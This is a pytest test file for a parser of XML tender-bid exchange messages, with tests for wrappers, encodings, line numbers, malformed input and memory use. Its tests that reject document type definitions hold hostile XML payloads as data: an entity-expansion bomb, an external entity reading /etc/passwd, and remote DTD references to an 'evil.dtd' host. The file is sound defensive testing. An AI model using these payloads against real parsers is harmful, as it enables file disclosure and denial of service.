import io
import tracemalloc
from collections.abc import Iterator
from xml.sax.saxutils import escape

import pytest

from heng.faces.exchange.inbox.national import walk
from heng.faces.exchange.inbox.national.reader import read
from heng.faces.exchange.inbox.record import Received, Rejected, Unreadable
from tests.faces.exchange.national.samples import (
    BIDDER,
    CENTRE,
    element,
    file_of,
    message,
    read_all,
    received,
    sample,
)

BIDS = message("507", sample("507"))


def until_it_breaks(data: bytes | str) -> tuple[list[Received | Rejected], Unreadable]:
    """Read what can be read, and return what stopped it."""
    records: list[Received | Rejected] = []
    with pytest.raises(Unreadable) as stopped:
        records.extend(read(io.BytesIO(data if isinstance(data, bytes) else data.encode()), CENTRE))
    return records, stopped.value


@pytest.mark.parametrize(
    "text",
    [
        element("507", sample("507")),
        f"<DATA_LIST DATA_NO='507' DATA_TYPE='1'>{element('507', sample('507'))}</DATA_LIST>",
        element("507", sample("507") | {"DATA_NO": "507", "DATA_TYPE": "1"}),
        f"<GCJS><DATA_EN>TENDER_LIST</DATA_EN>{element('507', sample('507'))}</GCJS>",
        element("507", sample("507")).replace("TENDER_LIST>", "GCJS_TENDER_LIST>"),
        f"<s:Envelope xmlns:s='http://schemas.xmlsoap.org/soap/envelope/'><s:Body>{BIDS}</s:Body></s:Envelope>",
        BIDS.replace("<DATA>", "<DATA xmlns='urn:demo'>"),
        BIDS.replace("<BODY>", "<VERSION>2.0</VERSION><BODY>"),
        BIDS.replace("<HEAD>", "<HEAD><SENDER>演示中心</SENDER>"),
        BIDS.replace("</TENDER_LIST>", "<ATTACHMENTS><FILE><NAME>a.pdf</NAME></FILE></ATTACHMENTS></TENDER_LIST>"),
        BIDS.replace("演示投标人名称甲", "<![CDATA[演示投标人名称甲]]>"),
        f"<!-- 演示 --><?style none?>{BIDS}",
        f"<Envelope><Body><xml><![CDATA[<?xml version='1.0' encoding='GBK'?>{BIDS}]]></xml></Body></Envelope>",
        f"<Envelope><Body><arg0>{escape(BIDS)}</arg0></Body></Envelope>",
    ],
    ids=[
        "bare", "attributes", "header-inside", "table-name", "prefix", "soap", "namespace", "stray-value",
        "unknown-header", "list-inside", "cdata", "comments", "file-in-cdata", "file-escaped",
    ],
)  # fmt: skip
def test_a_record_is_found_in_whatever_wrapper_it_comes(text):
    assert received(text).key.endswith(BIDDER)


def test_the_header_of_one_message_does_not_reach_into_the_next():
    first, second = read_all(
        file_of(message("507", sample("507"), key="one"), message("510", sample("510"), key="two", operation="2"))
    )
    assert (first.dataset, second.dataset) == ("507", "510")


def test_each_record_says_on_which_line_it_began():
    lines = [record.line for record in read_all(file_of(message("507", sample("507")), message("510", sample("510"))))]
    assert lines == [5, 9]


def test_a_file_of_many_lines_still_knows_its_lines():
    blank = "\n" * 70_000
    (only,) = read_all(f"<DATAS>{blank}{BIDS}</DATAS>")
    assert only.line == 70_003


@pytest.mark.parametrize(
    ("declared", "sent"),
    [
        ("UTF-8", "utf-8"),
        ("UTF-8", "utf-8-sig"),
        ("GBK", "gbk"),
        ("GB2312", "gbk"),
        ("GB18030", "gb18030"),
        ("UTF-8", "gbk"),
        ("GBK", "utf-8"),
        ("UTF-16", "utf-16"),
        ("UTF-16", "utf-16-le"),
        ("UTF-8", "utf-16-be"),
    ],
)
def test_an_encoding_is_told_by_its_bytes(declared, sent):
    text = f'<?xml version="1.0" encoding="{declared}"?>{BIDS}'
    assert received(text.encode(sent)).content.bids[0].bidder.name == "演示投标人名称甲"


def test_gbk_that_shows_itself_late_is_still_read():
    padding = "<!-- " + "x" * 200_000 + " -->"
    text = f'<?xml version="1.0"?><DATAS>{padding}{BIDS}</DATAS>'
    assert received(text.encode("gbk")).content.bids[0].bidder.name == "演示投标人名称甲"


def test_two_encodings_in_one_file_are_answered():
    data = f"<DATAS>{BIDS}".encode() + BIDS.encode("gbk") + b"</DATAS>"
    records, stopped = until_it_breaks(data)
    assert (len(records), stopped.code) == (1, "encoding")


def test_an_encoding_that_nobody_here_reads_is_answered():
    stopped = until_it_breaks('<?xml version="1.0" encoding="EBCDIC-CP-US"?><DATA/>')[1]
    assert stopped.code == "encoding"
    assert "UTF-8" in stopped.reason


ENTITY_BOMB = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefgh", "bcdefghi", strict=True))
    + "]><DATA>&i;</DATA>"
)


@pytest.mark.parametrize(
    "text",
    [
        ENTITY_BOMB,
        '<!DOCTYPE DATA [<!ENTITY x SYSTEM "file:///etc/passwd">]><DATA><BIDDER_NAME>&x;</BIDDER_NAME></DATA>',
        '<!DOCTYPE DATA SYSTEM "http://192.0.2.1/evil.dtd"><DATA/>',
        '<!doctype DATA [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;]><DATA/>',
        '<?a ?><!-- ?><DATA> --><!DOCTYPE DATA [<!ENTITY x "y">]><DATA>&x;</DATA>',
        f"{' ' * 70_000}<!DOCTYPE DATA><DATA/>"[-60_000:],
        '<!DOCTYPE DATA [<!ENTITY x "y">]><DATA>&x;</DATA>'.encode("utf-16").decode("utf-16"),
    ],
    ids=["bomb", "file", "remote", "parameter", "behind-a-comment", "behind-blanks", "plain"],
)
def test_a_document_type_definition_is_never_read(text):
    records, stopped = until_it_breaks(text)
    assert (records, stopped.code) == ([], "doctype")
    assert "DOCTYPE" in stopped.reason


def test_a_definition_inside_a_letter_is_found_too():
    letter = escape('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><DATA>&x;</DATA>')
    assert until_it_breaks(f"<Envelope><arg0>{letter}</arg0></Envelope>")[1].code == "doctype"


def test_a_definition_in_utf16_is_found_too():
    assert until_it_breaks('<!DOCTYPE DATA [<!ENTITY x "y">]><DATA>&x;</DATA>'.encode("utf-16"))[1].code == "doctype"


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("", "empty"),
        (" \n ", "empty"),
        ("演示文字", "broken-xml"),
        ("<DATA>", "broken-xml"),
        ("<DATA></DATUM>", "broken-xml"),
        ("<DATA>&x;</DATA>", "broken-xml"),
        ("<DATA>\x01</DATA>", "broken-xml"),
        ("<DATA a='1' a='2'/>", "broken-xml"),
        ("<DATA/><DATA/>", "broken-xml"),
        ("<!-- " + "x" * 200_000, "broken-xml"),
        ("<a>" * 1000, "too-large"),
        (f"<DATA><NAME>{'x' * 11_000_000}</NAME></DATA>", "too-large"),
    ],
    ids=[
        "nothing",
        "blank",
        "words",
        "cut",
        "crossed",
        "entity",
        "control",
        "twice",
        "two-roots",
        "comment",
        "deep",
        "long",
    ],
)
def test_broken_xml_is_answered_with_a_sentence(text, code):
    stopped = until_it_breaks(text)[1]
    assert stopped.code == code
    assert stopped.reason.endswith("。")


def test_what_stood_before_the_break_is_kept():
    records, stopped = until_it_breaks(f"<DATAS>{BIDS}{message('510', sample('510'))[:-40]}")
    assert [record.dataset for record in records] == ["507"]
    assert "此前的记录已处理" in stopped.reason


def test_a_record_without_end_is_stopped(monkeypatch):
    monkeypatch.setattr(walk, "MOST_ELEMENTS", 500)
    stopped = until_it_breaks("<DATA>" + "<X>1</X>\n" * 1000 + "</DATA>")[1]
    assert stopped.code == "too-large"


def test_elements_that_mean_nothing_are_answered_not_dropped():
    (only,) = read_all("<DATA><SOMETHING>1</SOMETHING></DATA>")
    assert isinstance(only, Rejected)
    assert only.findings[0].code == "no-dataset"


class Endless(io.RawIOBase):
    """A file of very many records that is made as it is read."""

    def __init__(self, records: int) -> None:
        one = message("507", sample("507")).encode()
        self.parts: Iterator[bytes] = iter([b"<DATAS>", *([one] * records), b"</DATAS>"])
        self.left = b""

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: bytearray) -> int:  # type: ignore[override]
        while len(self.left) < len(buffer) and (part := next(self.parts, b"")):
            self.left += part
        data, self.left = self.left[: len(buffer)], self.left[len(buffer) :]
        buffer[: len(data)] = data
        return len(data)


def test_memory_stays_flat_however_long_the_file():
    def peak(records: int) -> int:
        tracemalloc.start()
        try:
            assert sum(1 for _ in read(io.BufferedReader(Endless(records)), CENTRE)) == records  # type: ignore[arg-type]
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    peak(50)
    assert peak(3000) < peak(300) + 1_000_000
